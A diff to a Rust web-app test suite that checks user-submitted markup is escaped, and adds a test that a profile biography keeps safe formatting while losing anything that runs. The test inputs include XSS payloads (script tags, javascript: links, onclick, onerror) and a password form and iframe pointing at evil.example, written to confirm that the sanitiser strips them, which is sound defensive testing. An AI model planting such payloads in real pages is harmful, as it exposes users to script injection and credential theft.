@@ -35,14 +35,16 @@ fn markup_comes_back_as_text() {
         ada.submit_to(&post, &format!("{post}/comments"), &[("body", payload)]).expect_redirect(&post);
         ada.submit("/profile", &[("website", ""), ("biography", payload)]).expect_redirect("/profile");
         let kept = ada.submit("/posts/new", &[("title", payload), ("body", "")]).expect(422);
-        let pages =
-            [&post, "/", "/users/ada", "/profile", &format!("{post}/edit"), &format!("{post}/delete")];
+        let pages = [&post, "/", "/profile", &format!("{post}/edit"), &format!("{post}/delete")];
         let search = format!("/search?title__contains={}", encode(payload));
         let searched = ada.get(&search).expect(200).shows("Found: 1");
         let shown = pages.map(|page| ada.get(page).expect(200));
         for page in shown.into_iter().chain([kept, searched]) {
             page.hides("<script>alert").hides("<img").hides("<svg").hides("&amp;amp;");
         }
+        // A biography is rich text: what is harmless of it stays markup.
+        let biography = ada.get("/users/ada").expect(200);
+        biography.hides("<script>alert").hides("x\" onerror").hides("<img src=x").hides("<svg");
         let escaped = payload
             .replace('&', "&amp;")
             .replace('<', "&lt;")
@@ -50,6 +52,22 @@ fn markup_comes_back_as_text() {
             .replace('"', "&#34;")
             .replace('\'', "&#39;");
         ada.get(&post).shows(&format!("<h1>{escaped}</h1>"));
+    }
+    server.finish();
+}
+
+#[test]
+fn a_biography_keeps_its_markup_and_nothing_that_runs() {
+    let server = Server::start();
+    let mut ada = server.member("ada");
+    let text = "<b>kept</b><script>alert(1)</script><a href=\"javascript:alert(2)\" onclick=\"alert(3)\">here</a>\
+                <p style=\"position:fixed\">there</p><form action=//evil.example><input name=password></form><iframe src=//evil.example></iframe>";
+    ada.submit("/profile", &[("website", ""), ("biography", text)]).expect_redirect("/profile");
+    let shown = ada.get("/users/ada").expect(200);
+    let mut shown = shown.shows("<b>kept</b>").shows(">here</a>").shows("<p>there</p>");
+    for gone in ["alert(", "onclick", "position:fixed", "evil.example", "<input name=\"password\"", "<iframe"]
+    {
+        shown = shown.hides(gone);
     }
     server.finish();
 }
